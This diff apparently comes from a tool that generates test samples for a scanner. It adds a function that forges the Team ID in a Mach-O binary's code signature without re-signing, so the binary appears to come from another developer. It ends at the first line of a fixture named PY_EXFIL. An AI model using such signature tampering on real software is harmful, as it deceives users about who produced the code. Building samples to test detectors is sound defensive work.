@@ -195,6 +195,69 @@ def macho_add_dylib(data: bytes, tmp: Path) -> bytes:
     return (tmp / "out.dylib").read_bytes()
 
 
+def macho_set_team(data: bytes, team: str) -> bytes:
+    """Every code signature of a (thin or fat) Mach-O now names Team ID ``team``: what re-signing by
+    another developer account changes in the CodeDirectory. Patched in place, without resizing: the
+    team string takes the tail of the signing identifier (which must be long enough), and the
+    CodeDirectory's teamOffset points at it. Page hashes and the CMS blob (none, for a linker
+    signature) are left alone; nothing checks them statically before this diff."""
+    raw = team.encode("ascii") + b"\x00"
+    out = bytearray(data)
+    patched = 0
+    for sig_at, sig_size in _macho_signatures(data):
+        count = struct.unpack_from(">I", data, sig_at + 8)[0]
+        for i in range(min(count, 32)):
+            slot_type, blob_off = struct.unpack_from(">II", data, sig_at + 12 + 8 * i)
+            cd = sig_at + blob_off
+            if slot_type != 0 and not 0x1000 <= slot_type < 0x1005:  # the CodeDirectory and its alternates
+                continue
+            magic, length, version = struct.unpack_from(">III", data, cd)
+            if magic != 0xFADE0C02 or version < 0x20200 or blob_off + length > sig_size:
+                continue
+            ident_off = struct.unpack_from(">I", data, cd + 20)[0]
+            ident_end = data.index(b"\x00", cd + ident_off)
+            if ident_end - (cd + ident_off) < len(raw) + 4:
+                raise ValueError("signing identifier too short to make room for a Team ID")
+            team_at = ident_end + 1 - len(raw)
+            out[team_at - 1] = 0  # the identifier now ends just before the team string
+            out[team_at:ident_end + 1] = raw
+            struct.pack_into(">I", out, cd + 48, team_at - cd)
+            patched += 1
+    if not patched:
+        raise ValueError("no CodeDirectory with a team field (version >= 0x20200) found")
+    return bytes(out)
+
+
+def _macho_signatures(data: bytes) -> list[tuple[int, int]]:
+    """(offset, size) of the code-signature SuperBlob of each slice, from LC_CODE_SIGNATURE."""
+    magic = struct.unpack_from(">I", data, 0)[0]
+    if magic in (0xCAFEBABE, 0xCAFEBABF):  # fat: slices at big-endian offsets
+        wide = magic == 0xCAFEBABF
+        count = struct.unpack_from(">I", data, 4)[0]
+        step = 32 if wide else 20
+        slices = []
+        for i in range(count):
+            at = 8 + i * step
+            offset = struct.unpack_from(">Q" if wide else ">I", data, at + 8)[0]
+            slices.append(offset)
+    else:
+        slices = [0]
+    found = []
+    for base in slices:
+        head = struct.unpack_from("<I", data, base)[0]
+        if head not in (0xFEEDFACE, 0xFEEDFACF):
+            continue
+        ncmds = struct.unpack_from("<I", data, base + 16)[0]
+        at = base + (32 if head == 0xFEEDFACF else 28)
+        for _ in range(ncmds):
+            cmd, size = struct.unpack_from("<II", data, at)
+            if cmd == 0x1D:  # LC_CODE_SIGNATURE: dataoff, datasize (relative to the slice)
+                dataoff, datasize = struct.unpack_from("<II", data, at + 8)
+                found.append((base + dataoff, datasize))
+            at += size
+    return found
+
+
 # ----------------------------------------------------------------------------- packages
 
 PY_EXFIL = b'''import json, os, urllib.request
